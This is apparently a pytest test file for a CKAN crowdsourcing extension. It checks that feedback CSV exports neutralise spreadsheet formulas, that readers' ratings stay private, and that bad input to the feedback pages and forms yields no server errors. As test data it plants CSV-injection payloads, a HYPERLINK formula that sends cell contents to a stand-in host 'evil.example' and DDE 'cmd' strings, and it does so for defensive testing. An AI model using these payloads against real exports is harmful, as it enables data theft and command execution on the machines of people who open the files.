"""Issue 13 for feedback: no formulas in CSV exports, no reader's rating in
public, and no 500 from bad input to the feedback pages and forms."""
import csv
import io
import json

import pytest
import sqlalchemy as sa
from bs4 import BeautifulSoup
from ckan import logic, model
from ckan.tests import factories

from ckanext.crowdsource.feedback.model import feedback as feedback_table
from ckanext.crowdsource.tests.helpers import as_user, log_in, log_out

HTMX = {"HX-Request": "true"}
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
# each way a spreadsheet cell can start a formula
BODIES = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1",
          "＝1+1", "=1+1"]


def soup(html):
    return BeautifulSoup(html, "html.parser")


def csv_rows(text):
    return list(csv.DictReader(io.StringIO(text, newline="")))


def plant(lib):
    """Feedback whose title, bodies, public answer and author start like formulas."""
    author = factories.User(name="-1-1", fullname="=cmd|' /C calc'!A0")
    sent = [as_user(author if n == 0 else lib["reader"], "crowdsource_feedback_create",
                    kind="request" if n == 0 else "error", title=FORMULA if n == 0 else None,
                    body=body, package_id=lib["ds"]["id"])
            for n, body in enumerate(BODIES)]
    as_user(lib["editor"], "crowdsource_feedback_set_status", id=sent[0]["id"],
            status="acknowledged", public_answer="-We are on it")
    return author, sent


def assert_neutralised(rows, author):
    by_body = {r["body"]: r for r in rows}
    assert sorted(by_body) == sorted("'" + b for b in BODIES)
    first = by_body["'" + BODIES[0]]
    assert first["title"] == "'" + FORMULA
    assert first["public_answer"] == "'-We are on it"
    assert first["author"] == "'" + author["name"]
    for r in rows:  # nothing else changed: no cell of the export starts a formula
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
                       for v in r.values())
        assert r["rating"] == "" and r["anonymous"] == "False"


def test_csv_exports_neutralise_formulas_and_json_keeps_the_text(app, lib):
    author, sent = plant(lib)
    piece = as_user(lib["editor"], "crowdsource_feedback_export", format="csv")
    assert piece["count"] == len(BODIES)
    assert_neutralised(csv_rows(piece["data"]), author)

    log_in(app, lib["editor"])
    res = app.get("/crowdsource/feedback/export.csv")
    assert res.status_code == 200
    assert_neutralised(csv_rows(res.get_data(as_text=True)), author)

    as_json = as_user(lib["editor"], "crowdsource_feedback_export", format="json")["data"]
    assert sorted(r["body"] for r in as_json) == sorted(BODIES)
    assert {r["title"] for r in as_json} == {FORMULA, ""}
    streamed = json.loads(app.get("/crowdsource/feedback/export.json").get_data(as_text=True))
    assert sorted(r["body"] for r in streamed) == sorted(BODIES)
    assert next(r for r in streamed if r["id"] == sent[0]["id"])["public_answer"] == \
        "-We are on it"
    # stored and shown as written
    assert as_user(lib["editor"], "crowdsource_feedback_show",
                   id=sent[0]["id"])["title"] == FORMULA


# who sees the rating a reader gave with a public request
SEES_RATING = {None: False, "reader": True, "reader2": False, "other_editor": False,
               "member": False, "editor": True, "admin": True, "sysadmin": True}


@pytest.fixture
def rated(lib):
    """A public request of ``reader`` with their rating 1, seconded by reader3."""
    r = as_user(lib["reader"], "crowdsource_feedback_create", kind="request",
                title="Maps of 1900", body="Please", rating=1, package_id=lib["ds"]["id"])
    as_user(lib["reader3"], "crowdsource_request_second", id=r["id"])
    return r


@pytest.mark.parametrize("who", list(SEES_RATING))
def test_a_readers_rating_is_theirs_and_the_staffs(lib, rated, who):
    user = lib[who] if who else None
    sees = SEES_RATING[who]
    shown = as_user(user, "crowdsource_feedback_show", id=rated["id"])
    assert (shown.get("rating") == 1) is sees and ("rating" in shown) is sees
    listed = as_user(user, "crowdsource_request_list", package_id=lib["ds"]["id"])
    assert listed["count"] == 1 and "rating" not in listed["results"][0]  # the public list
    # the author is named, as on any public contribution
    assert listed["results"][0]["author"]["name"] == lib["reader"]["name"]
    assert shown["author"]["name"] == lib["reader"]["name"]
    summary = as_user(user, "crowdsource_rating_summary", package_id=lib["ds"]["id"])
    assert (summary["average"], summary["count"]) == (1.0, 1)  # the aggregate is public
    assert summary["mine"] == (1 if who == "reader" else None)
    if who in ("reader2", "other_editor", "member"):  # "me too" answers with the request
        seconded = as_user(user, "crowdsource_request_second", id=rated["id"])
        assert "rating" not in seconded
        mine = as_user(user, "crowdsource_feedback_list", mine=True)
        assert mine["count"] == 0
    if who in ("editor", "admin", "sysadmin"):  # the inbox and the exports
        inbox = as_user(user, "crowdsource_feedback_list")
        assert [f["rating"] for f in inbox["results"]] == [1]
        assert as_user(user, "crowdsource_feedback_export")["data"][0]["rating"] == 1
    if who == "reader":
        assert as_user(user, "crowdsource_feedback_list", mine=True)["results"][0]["rating"] == 1


@pytest.mark.parametrize("who", list(SEES_RATING))
def test_request_pages_show_a_rating_only_to_its_reader_and_the_staff(app, lib, rated, who):
    if who:
        log_in(app, lib[who])
    else:
        log_out(app)
    item = soup(app.get(f"/crowdsource/feedback/{rated['id']}").body)
    assert (item.select_one(".cs-feedback-item .cs-stars") is not None) is SEES_RATING[who]
    assert lib["reader"]["fullname"] in item.select_one(".cs-feedback-item p.text-muted").text
    for page in ("/crowdsource/requests", f"/dataset/{lib['ds']['name']}"):
        found = soup(app.get(page).body).select_one(f"#request-{rated['id']}")
        assert found is not None and found.select_one(".cs-stars") is None
        assert "★" not in found.text
    if who in ("reader2", "other_editor", "member"):  # the htmx answer to "me too"
        res = app.post("/crowdsource/feedback/do/second", data={"id": rated["id"]},
                       headers=HTMX)
        assert res.status_code == 200 and "★" not in res.get_data(as_text=True)


@pytest.mark.parametrize("fmt", ["csv", "json"])
@pytest.mark.parametrize("query", [
    pytest.param("organization=nope", id="unknown"),
    pytest.param("organization=%00", id="nul"),
    pytest.param("organization=" + "x" * 3000, id="long")])
def test_an_export_of_no_organization_is_not_found_before_it_streams(app, lib, fmt, query):
    as_user(lib["reader"], "crowdsource_feedback_create", kind="error", body="x",
            package_id=lib["ds"]["id"])
    log_in(app, lib["editor"])
    res = app.get(f"/crowdsource/feedback/export.{fmt}?{query}")
    assert res.status_code in (400, 404)
    assert "attachment" not in res.headers.get("Content-Disposition", "")
    with pytest.raises((logic.NotFound, logic.ValidationError)):
        as_user(lib["editor"], "crowdsource_feedback_export", format=fmt,
                organization=query.split("=", 1)[1].replace("%00", "\x00"))
    assert app.get(f"/crowdsource/feedback/export.{fmt}").status_code == 200  # the next one


@pytest.mark.parametrize("headers", [{}, HTMX])
@pytest.mark.parametrize("request_id", ["nope", "", "a\x00b", pytest.param("x" * 3000,
                                                                         id="long")])
def test_me_too_for_no_request_is_not_an_error_of_the_portal(app, lib, headers, request_id):
    log_in(app, lib["reader2"])
    res = app.post("/crowdsource/feedback/do/second", data={"id": request_id},
                   headers=headers, follow_redirects=False)
    assert res.status_code == (404 if headers else 302)


def test_a_nul_byte_among_the_ids_of_a_bulk_change_is_refused(app, lib):
    f = as_user(lib["reader"], "crowdsource_feedback_create", kind="error", body="x",
                package_id=lib["ds"]["id"])
    with pytest.raises(logic.ValidationError) as e:
        as_user(lib["editor"], "crowdsource_feedback_set_status_bulk",
                ids=[f["id"], "a\x00b"], status="acknowledged")
    assert list(e.value.error_dict) == ["ids"]
    log_in(app, lib["editor"])
    res = app.post("/crowdsource/feedback/do/status",
                   data={"id": [f["id"], "a\x00b"], "status": "acknowledged"},
                   follow_redirects=False)
    assert res.status_code == 302
    assert model.Session.execute(sa.select(feedback_table.c.status).where(
        feedback_table.c.id == f["id"])).scalar_one() == "new"  # all or none


HUGE = "9" * 25
VALUES = ["abc", "%00", "-1", "0", HUGE, "1e400", "%ED%A0%80", "x" * 3000]
PARAMS = ["page", "sort", "status", "kind", "organization", "package_id", "rating",
          "since", "until", "mine", "limit", "offset"]


def test_bad_query_strings_on_feedback_pages_answer_no_5xx(app, lib):
    r = as_user(lib["reader"], "crowdsource_feedback_create", kind="request", title="t",
                body="b", package_id=lib["ds"]["id"])
    failed = []
    for who, pages in ((None, ["/crowdsource/requests", f"/crowdsource/feedback/{r['id']}"]),
                       ("reader", ["/crowdsource/feedback"]),
                       ("editor", ["/crowdsource/feedback", "/crowdsource/feedback/export.csv",
                                   "/crowdsource/feedback/export.json"])):
        if who:
            log_in(app, lib[who])
        else:
            log_out(app)
        urls = [f"{page}?{p}={v}" for page in pages for p in PARAMS for v in VALUES]
        urls += [f"/crowdsource/feedback/{v}" for v in ("nope", "%00", "%ED%A0%80", "x" * 3000)]
        for url in urls:
            status = app.get(url, follow_redirects=False).status_code
            if status >= 500:
                failed.append((who, url[:120], status))
    assert failed == []


FORMS = {
    "send": lambda lib, ids: {"kind": "error", "body": "b", "package_id": lib["ds"]["id"]},
    "reply": lambda lib, ids: {"id": ids["error"], "body": "b"},
    "status": lambda lib, ids: {"id": ids["error"], "status": "acknowledged"},
    "second": lambda lib, ids: {"id": ids["request"], "second": "true"},
}
FIELDS = ["kind", "body", "title", "rating", "package_id", "resource_id", "organization",
          "contact_email", "id", "status", "reply", "public_answer", "fulfilled_by", "second",
          "came_from"]
BAD = ["", "nope", "a\x00b", HUGE, "-5", "x" * 1_100_000]


@pytest.mark.parametrize("verb", list(FORMS))
def test_bad_form_input_answers_no_5xx(app, lib, verb):
    ids = {kind: as_user(lib["reader"], "crowdsource_feedback_create", kind=kind, body="b",
                         package_id=lib["ds"]["id"])["id"] for kind in ("error", "request")}
    log_in(app, lib["editor"] if verb == "status" else
           lib["reader2"] if verb == "second" else lib["reader"])
    good = FORMS[verb](lib, ids)
    failed = []
    for headers in ({}, HTMX):
        for field in FIELDS:
            for value in BAD:
                data = {**good, field: value}
                if field in good and value == "":
                    data.pop(field)
                status = app.post(f"/crowdsource/feedback/do/{verb}", data=data,
                                  headers=headers, follow_redirects=False).status_code
                if status >= 500:
                    failed.append((field, value[:20], headers, status))
    assert failed == []
    assert app.get("/crowdsource/requests").status_code == 200  # the next request
